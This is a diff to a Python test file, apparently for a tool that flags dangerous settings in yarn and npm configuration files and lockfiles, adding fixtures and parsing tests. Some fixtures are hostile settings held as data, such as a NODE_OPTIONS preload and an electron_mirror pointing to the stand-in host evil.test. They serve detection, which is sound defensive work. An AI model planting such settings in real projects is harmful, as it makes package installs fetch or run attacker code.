@@ -404,6 +404,18 @@ SETTINGS: dict[str, tuple[dict[str, str], set[str]]] = {
     "env": ({".yarnrc": 'env:\n  NODE_OPTIONS "-r ./x"\n'}, {"npmrc-runs-code"}),
     "no lockfile": ({".yarnrc": "--install.no-lockfile true\n"}, {"npmrc-weakens"}),
     "strict-ssl": ({".yarnrc": "strict-ssl false\n"}, {"npmrc-weakens"}),
+    "another project": ({".yarnrc": '--install.cwd "./other"\n'}, {"lockfile-elsewhere"}),
+    "another project, for every command": ({".yarnrc": '"--*.cwd" "./other"\n'}, {"lockfile-elsewhere"}),
+    "other settings": ({".yarnrc": '--use-yarnrc "./x"\n'}, {"npmrc-runs-code"}),
+    "another folder": ({".yarnrc": '--modules-folder "./x"\n'}, {"npmrc-runs-code"}),
+    "harmless arguments": ({".yarnrc": "--install.frozen-lockfile true\n--ignore-engines true\n"}, set()),
+    "a cache of the project": ({".yarnrc": 'cache-folder "./cache"\n'}, {"npmrc-redirects"}),
+    "a cache, as argument": ({".yarnrc": '--cache-folder "./cache"\n'}, {"npmrc-redirects"}),
+    "a cache in .npmrc": ({".npmrc": "cache-folder=./cache\n"}, {"npmrc-redirects"}),
+    "C03 a mirror that scripts fetch from": (
+        {".npmrc": "electron_mirror=https://evil.test/\n"},
+        {"npmrc-runs-code"},
+    ),
     "proxy": ({".yarnrc": 'proxy "http://p"\n'}, {"npmrc-redirects"}),
     "harmless": ({".yarnrc": "lastUpdateCheck 1500000000000\nnetwork-timeout 60000\n"}, set()),
     "empty": ({".yarnrc": "\n"}, set()),
@@ -756,3 +768,20 @@ def test_an_entry_without_a_version() -> None:
 def test_the_hash_of_the_fragment_is_a_hash() -> None:
     graph = read(ATTACKS["A23 sha1 in the fragment"][0])
     assert [(one.algorithm, one.hex) for one in graph.packages[1].hashes] == [("sha1", SHA1)]
+
+
+def test_a_comment_ends_an_entry() -> None:
+    """yarn 1 reads what is indented behind a comment at the line's beginning as no part of the entry (measured)."""
+    lines = GOOD.splitlines(keepends=True)
+    for at in range(1, len(lines)):
+        with pytest.raises(InputError, match="indented"):
+            read("".join([*lines[:at], "# a comment\n", *lines[at:]]))
+    assert codes(read("".join([*lines[:2], "  # a comment\n", *lines[2:], "# a comment\n"]))) == set()
+
+
+@pytest.mark.parametrize("version", ["latest", "inner", "1"])
+def test_a_workspace_without_a_version_that_is_one(version: str) -> None:
+    """yarn 1 asks the registry for that tag of a package of the same name (measured)."""
+    manifest = json.dumps({"name": "met", "version": version})
+    with pytest.raises(InputError, match="is no version"):
+        read(GOOD, {"private": True, "workspaces": ["packages/*"]}, files={"packages/met/package.json": manifest})
